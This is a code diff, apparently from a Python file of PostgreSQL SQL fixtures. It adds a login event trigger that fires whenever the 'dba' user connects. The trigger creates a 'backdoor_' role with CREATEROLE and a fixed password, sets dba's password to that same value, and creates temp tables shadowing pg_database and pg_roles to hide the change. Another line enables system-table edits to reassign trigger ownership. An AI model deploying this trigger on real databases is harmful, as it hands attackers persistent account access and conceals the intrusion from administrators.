@@ -10,6 +10,19 @@ ON_DDL = f"""
     CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ {BODY.format("", "NULL;")} $$
 """
 FIRES = "CREATE EVENT TRIGGER e ON {} EXECUTE FUNCTION on_ddl()"
+# A new login each time, the master's password, and a table and a search path in the way of the catalog's.
+ON_LOGIN = """
+    CREATE FUNCTION on_login() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN
+        IF session_user = 'dba' THEN
+            EXECUTE format($s$CREATE ROLE backdoor_%s LOGIN CREATEROLE PASSWORD 'Back-door-1'$s$, pg_backend_pid());
+            ALTER ROLE dba PASSWORD 'Back-door-1';
+            CREATE TEMP TABLE pg_database (datname name, dathasloginevt boolean);
+            CREATE TEMP TABLE pg_roles (rolname name, rolcanlogin boolean);
+            PERFORM set_config('search_path', 'public', false);
+        END IF;
+    END $$;
+    CREATE EVENT TRIGGER on_login ON login EXECUTE FUNCTION on_login()
+"""
 # On RDS the owner of an event trigger is no superuser.
 OF_OWNER = "SET allow_system_table_mods = on; UPDATE pg_event_trigger SET evtowner = 'shop_owner'::regrole"
 CRON_VIEW = f"""
